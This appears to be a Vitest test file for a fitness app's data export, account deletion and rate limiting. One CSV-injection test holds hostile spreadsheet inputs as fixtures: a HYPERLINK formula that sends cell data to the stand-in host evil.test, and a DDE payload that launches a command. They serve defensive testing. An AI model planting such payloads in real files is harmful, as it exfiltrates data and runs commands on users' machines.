import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '@/db/client';
import { SESSION_COOKIE } from '@/server/auth/credentials';
import { createWebSession } from '@/server/auth/web-sessions';
import { DEMO_COACH_ID, DEMO_LIFTER_ID, DEMO_SECOND_LIFTER_ID } from '@/server/demo/demo-data';
import { seedDemo } from '@/server/demo/seed';
import { setRateLimits } from '@/server/http/rate-limit';
import { DELETED_USER } from '@/server/privacy/delete-user';
import { defused, SETS_CSV_COLUMNS } from '@/server/privacy/export';
import { USER_TABLES } from '@/server/privacy/user-tables';
import { seedFeedback } from '../fixtures/seed-examples';
import { call, del, get, post } from '../helpers/api';
import { testNow } from '../helpers/clock';
import { describeEachDatabase } from '../helpers/databases';
import { createUser } from '../helpers/fixtures';
import { introspect } from '../helpers/introspect';

/** The demo's "today": nothing here depends on when the test runs. */
const DEMO_TODAY = new Date('2026-11-25T10:00:00Z');

describeEachDatabase('data rights', (ctx) => {
  let tokens: Record<string, string>;
  let counts: Record<string, Record<string, number>>;
  beforeAll(async () => {
    const seeded = await seedDemo(ctx.db, { today: DEMO_TODAY });
    tokens = Object.fromEntries(seeded.tokens.map((t) => [t.userId, t.token]));
    // The coach overrides one of the lifter's modifiers: its id is now in the lifter's audit trail.
    await ctx.db.execute(sql`insert into adaptive_modifiers (user_id, exercise, week_start, multiplier, reason, rule_version, policy, source, decided_by, note)
                             values (${DEMO_LIFTER_ID}, 'Deadlift', '2025-11-24', 0.95, 'coach override', 'v1', 'coach', 'coach', ${DEMO_COACH_ID}, null)`);
    counts = {};
    for (const user of [DEMO_LIFTER_ID, DEMO_SECOND_LIFTER_ID, DEMO_COACH_ID]) {
      counts[user] = {};
      for (const t of USER_TABLES) {
        const [row] = await rows<{ n: number }>(
          ctx.db,
          sql`select count(*)::int as n from ${sql.identifier(t.name)} where user_id = ${user}`,
        );
        if (row!.n > 0) counts[user]![t.name] = row!.n;
      }
    }
  });

  describe('export', () => {
    it('returns every row of every user-owned table, free text in plain', async () => {
      const res = await get(`/api/v1/export?user_id=${DEMO_LIFTER_ID}`, tokens[DEMO_LIFTER_ID]);
      expect(res.status).toBe(200);
      expect(res.headers.get('cache-control')).toBe('no-store');
      expect(Object.keys(res.body.tables).sort()).toEqual(USER_TABLES.map((t) => t.name).sort());
      for (const [table, n] of Object.entries(counts[DEMO_LIFTER_ID]!))
        expect(res.body.tables[table], table).toHaveLength(n);
      expect(res.body.user).toMatchObject({
        id: DEMO_LIFTER_ID,
        role: 'lifter',
        display_name: 'Alex Demo',
        analytics_opt_in: true,
      });
      expect(res.body.tables.sets[0]).toHaveProperty('rec_weight');
      expect(res.body.tables.feedback_events.map((f: { notes: string }) => f.notes)).toContain('felt right');
      // Secrets of the service are not the user's data.
      expect(res.body.tables.api_tokens[0].token_hash).toBe('[redacted]');
      expect(JSON.stringify(res.body)).not.toContain(DEMO_SECOND_LIFTER_ID);
    });

    it('redacts a coach’s invitation codes (their hashes) like token hashes', async () => {
      const invite = await post('/api/v1/coaching/invites', {}, tokens[DEMO_COACH_ID]);
      expect(invite.status).toBe(201);
      const res = await get('/api/v1/export', tokens[DEMO_COACH_ID]);
      expect(res.body.tables.coach_invites[0].code_hash).toBe('[redacted]');
      expect(res.body.tables.coach_invites[0].id).toBe(invite.body.invite_id);
    });

    it('gives the sets as CSV, one line per set, oldest first', async () => {
      const res = await get(`/api/export?format=csv`, tokens[DEMO_LIFTER_ID]);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toContain(`overload-${DEMO_LIFTER_ID}-sets.csv`);
      const records = parse(res.body as string, { columns: true }) as Record<string, string>[];
      expect(Object.keys(records[0]!)).toEqual([...SETS_CSV_COLUMNS]);
      expect(records).toHaveLength(counts[DEMO_LIFTER_ID]!.sets!);
      const dates = records.map((r) => r.date!);
      expect([...dates].sort()).toEqual(dates);
      expect(records.every((r) => Number(r.actual_weight) >= 0 && ['true', 'false'].includes(r.done!))).toBe(true);
    });

    it('defuses text a spreadsheet would run as a formula (CSV injection): a leading quote, shown as written', async () => {
      const token = await createUser(ctx.db, 'csv-lifter');
      const evil = {
        '=HYPERLINK("https://evil.test/?"&A1,"Open")': '@SUM(1+1)',
        "+cmd|' /C calc'!A0": '-2+3',
      };
      for (const [dayType, exercise] of Object.entries(evil)) {
        const set = { exercise, set_number: 1, rec_weight: 50, rec_reps: 5, actual_weight: 50, actual_reps: 5 };
        const session = { user_id: 'csv-lifter', date: '2025-11-20', day_type: dayType, finished: true, sets: [set] };
        expect((await post('/api/v1/session', session, token)).status).toBe(201);
      }
      const csv = (await get('/api/v1/export?format=csv', token)).body as string;
      const records = parse(csv, { columns: true }) as Record<string, string>[];
      expect(records).toHaveLength(2);
      for (const [dayType, exercise] of Object.entries(evil)) {
        const row = records.find((r) => r.day_type === `'${dayType}`);
        expect(row, dayType).toBeDefined();
        expect(row!.exercise).toBe(`'${exercise}`);
        expect(row!.rec_weight).toBe('50'); // numbers stay numbers
      }
    });

    it.each(['=1+1', '+1', '-1', '@A1', '\tA1', '\rA1'])(
      'defuses a cell starting %j; leaves others as they are',
      (cell) => {
        expect(defused(cell)).toBe(`'${cell}`);
        expect(defused(`Bench ${cell}`)).toBe(`Bench ${cell}`);
      },
    );

    it.each([
      ['someone else’s data', `?user_id=${DEMO_SECOND_LIFTER_ID}`, 403, 'user_id'],
      ['even a coach’s athlete', `?user_id=${DEMO_LIFTER_ID}`, 403, 'user_id', DEMO_COACH_ID],
      ['an unknown format', '?format=xml', 400, 'format'],
      ['an unknown parameter', '?since=2025-01-01', 400, 'since'],
    ])('refuses %s', async (_what, query, status, field, as = DEMO_LIFTER_ID) => {
      const res = await get(`/api/v1/export${query}`, tokens[as]);
      expect(res.status).toBe(status);
      expect(res.body.error.issues.map((i: { path: string }) => i.path)).toContain(field);
    });

    it('needs a token', async () => {
      expect((await get('/api/v1/export', null)).status).toBe(401);
    });
  });

  describe('deletion', () => {
    it('only the user itself may delete its account', async () => {
      for (const [as, target] of [
        [DEMO_SECOND_LIFTER_ID, DEMO_LIFTER_ID],
        [DEMO_COACH_ID, DEMO_LIFTER_ID],
      ] as const) {
        const res = await del(`/api/v1/users/${target}`, tokens[as]);
        expect(res.status).toBe(403);
      }
      expect((await del(`/api/v1/users/${DEMO_LIFTER_ID}`, null)).status).toBe(401);
      expect((await call('POST', `/api/v1/users/${DEMO_LIFTER_ID}`, { token: tokens[DEMO_LIFTER_ID] })).status).toBe(
        405,
      );
      expect((await del('/api/v1/users/not%20an%20id', tokens[DEMO_LIFTER_ID])).status).toBe(400);
      const [row] = await rows<{ n: number }>(
        ctx.db,
        sql`select count(*)::int as n from sets where user_id = ${DEMO_LIFTER_ID}`,
      );
      expect(row!.n).toBe(counts[DEMO_LIFTER_ID]!.sets);
    });

    it('removes every row of the user from every table, in one go, and nothing of anyone else', async () => {
      // An interrupted batch job stopped at the lifter: its cursor must not keep the id, nor resume differently.
      await ctx.db.execute(
        sql`insert into job_runs (job, period, status, cursor) values ('modifiers', 'erasure-test', 'running', ${DEMO_LIFTER_ID})`,
      );
      const resumesWith = async (cursor: string | null) =>
        (
          await rows<{ id: string }>(
            ctx.db,
            sql`select id from users where ${cursor}::text is null or id > ${cursor} order by id`,
          )
        ).map((r) => r.id);
      const pending = (await resumesWith(DEMO_LIFTER_ID)).filter((id) => id !== DEMO_COACH_ID);
      expect(pending.length).toBeGreaterThan(0);

      const res = await del(`/api/users/${DEMO_COACH_ID}`, tokens[DEMO_COACH_ID], { 'idempotency-key': 'delete-me' });
      expect(res.status).toBe(200);
      expect(res.body.deleted).toMatchObject({ ...counts[DEMO_COACH_ID], users: 1 });

      const res2 = await del(`/api/v1/users/${DEMO_LIFTER_ID}`, tokens[DEMO_LIFTER_ID]);
      expect(res2.status).toBe(200);
      // Its link to the coach went with the coach.
      const { coach_athletes: _linked, ...lifterRows } = counts[DEMO_LIFTER_ID]!;
      expect(res2.body.deleted).toEqual({ ...lifterRows, users: 1 });

      // Every table the database has, every column that can hold a user id: none holds either id any more.
      const shape = await introspect(ctx.db);
      const textColumns = shape.columns.filter((c) => c.data_type === 'text');
      for (const c of textColumns) {
        const found = await rows<{ n: number }>(
          ctx.db,
          sql`select count(*)::int as n from ${sql.identifier(c.table_name as string)}
              where ${sql.identifier(c.column_name as string)} in (${DEMO_LIFTER_ID}, ${DEMO_COACH_ID})`,
        );
        expect(found[0]!.n, `${c.table_name}.${c.column_name}`).toBe(0);
      }
      const [run] = await rows<{ cursor: string | null }>(
        ctx.db,
        sql`select cursor from job_runs where period = 'erasure-test'`,
      );
      expect(await resumesWith(run!.cursor)).toEqual(pending);
      // The other lifter is untouched, except that its coach's id became a placeholder in its audit trail.
      for (const [table, n] of Object.entries(counts[DEMO_SECOND_LIFTER_ID]!)) {
        const [row] = await rows<{ n: number }>(
          ctx.db,
          sql`select count(*)::int as n from ${sql.identifier(table)} where user_id = ${DEMO_SECOND_LIFTER_ID}`,
        );
        expect(row!.n, table).toBe(table === 'coach_athletes' ? n - 1 : n);
      }
    });

    it('the deleted user’s token no longer works, so a repeat answers 401', async () => {
      expect((await del(`/api/v1/users/${DEMO_LIFTER_ID}`, tokens[DEMO_LIFTER_ID])).status).toBe(401);
      expect((await get('/api/v1/export', tokens[DEMO_LIFTER_ID])).status).toBe(401);
      expect((await get('/api/v1/export', tokens[DEMO_SECOND_LIFTER_ID])).status).toBe(200);
    });

    it('the audit trail stays append-only outside the two maintenance jobs', async () => {
      await createUser(ctx.db, 'audited');
      await ctx.db.execute(sql`insert into adaptive_modifiers (user_id, exercise, week_start, multiplier, reason, rule_version, policy, source, decided_by)
                               values ('audited', 'Squat', '2025-11-24', 1.0, 'r', 'v1', 'coach', 'coach', 'c')`);
      const attempt = (mode: string | null, set: ReturnType<typeof sql>) =>
        ctx.db.transaction(async (tx) => {
          if (mode) await tx.execute(sql`select set_config('overload.maintenance', ${mode}, true)`);
          await tx.execute(sql`update adaptive_modifiers set ${set} where user_id = 'audited'`);
        });
      await expect(attempt(null, sql`decided_by = ${DELETED_USER}`)).rejects.toThrow();
      await expect(attempt('erase', sql`multiplier = 2`)).rejects.toThrow();
      await expect(attempt('reseal', sql`decided_by = 'someone'`)).rejects.toThrow();
      await expect(attempt('erase', sql`note = 'invented'`)).rejects.toThrow();
      await expect(attempt('erase', sql`policy = 'hold'`)).rejects.toThrow();
      await expect(attempt('erase', sql`decided_by = ${DELETED_USER}`)).resolves.toBeUndefined();
    });
  });
});

describeEachDatabase('rate limit', (ctx) => {
  let a: string;
  let b: string;
  beforeAll(async () => {
    a = await createUser(ctx.db, 'busy', { analyticsOptIn: true });
    b = await createUser(ctx.db, 'calm', { analyticsOptIn: true });
    setRateLimits({ request: 3 });
  });
  afterAll(() => setRateLimits(undefined));

  it('answers 429 with Retry-After once a token is over its limit, writing nothing; other tokens go on', async () => {
    const event = { type: 'session_finished', payload: {} };
    for (let i = 0; i < 3; i++) expect((await post('/api/v1/instrument', event, a)).status).toBe(200);
    const limited = await post('/api/v1/instrument', event, a);
    expect(limited.status).toBe(429);
    expect(limited.body.error.code).toBe('rate_limited');
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    const [row] = await rows<{ n: number }>(
      ctx.db,
      sql`select count(*)::int as n from instrument_events where user_id = 'busy'`,
    );
    expect(row!.n).toBe(3);
    expect((await get('/api/v1/analytics', a)).status).toBe(429); // every endpoint, reads too
    expect((await post('/api/v1/instrument', event, b)).status).toBe(200);
  });

  it('limits tRPC too: a token shares one bucket across REST and tRPC, each call of a batch counts', async () => {
    const c = await createUser(ctx.db, 'both-ways', { analyticsOptIn: true });
    expect((await get('/api/v1/analytics', c)).status).toBe(200);
    // One HTTP request, two calls: the bucket's last two tokens.
    const batch = await get(
      `/api/trpc/analytics.prs,analytics.plateaus?batch=1&input=${encodeURIComponent('{"0":{},"1":{}}')}`,
      c,
    );
    expect(batch.status).toBe(200);
    expect(batch.body.map((r: { result?: unknown }) => r.result !== undefined)).toEqual([true, true]);
    const limited = await get('/api/trpc/analytics.prs?input=%7B%7D', c);
    expect(limited.status).toBe(429);
    expect(limited.body.error.data.code).toBe('TOO_MANY_REQUESTS');
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect((await get('/api/v1/analytics', c)).status).toBe(429);
    // A signed-out call is refused before it can take from anyone's bucket.
    expect((await get('/api/trpc/analytics.prs?input=%7B%7D', null)).status).toBe(401);
  });

  it("counts a user's tokens and sessions against one budget: a fresh session does not refill it", async () => {
    const token = await createUser(ctx.db, 'browser', { analyticsOptIn: true });
    const first = await createWebSession(ctx.db, 'browser', testNow());
    const viaCookie = (session: string) =>
      call('GET', '/api/trpc/analytics.prs?input=%7B%7D', { headers: { cookie: `${SESSION_COOKIE}=${session}` } });
    expect((await viaCookie(first.token)).status).toBe(200);
    expect((await get('/api/v1/analytics', token)).status).toBe(200);
    expect((await viaCookie(first.token)).status).toBe(200);
    expect((await viaCookie(first.token)).status).toBe(429);
    const second = await createWebSession(ctx.db, 'browser', testNow());
    expect((await viaCookie(second.token)).status).toBe(429);
    expect((await get('/api/v1/analytics', token)).status).toBe(429);
  });

  it('does not count requests without a valid token against anyone', async () => {
    expect((await post('/api/v1/instrument', {}, 'ovl_unknown')).status).toBe(401);
    expect((await post('/api/v1/feedback', seedFeedback, null)).status).toBe(401);
  });
});
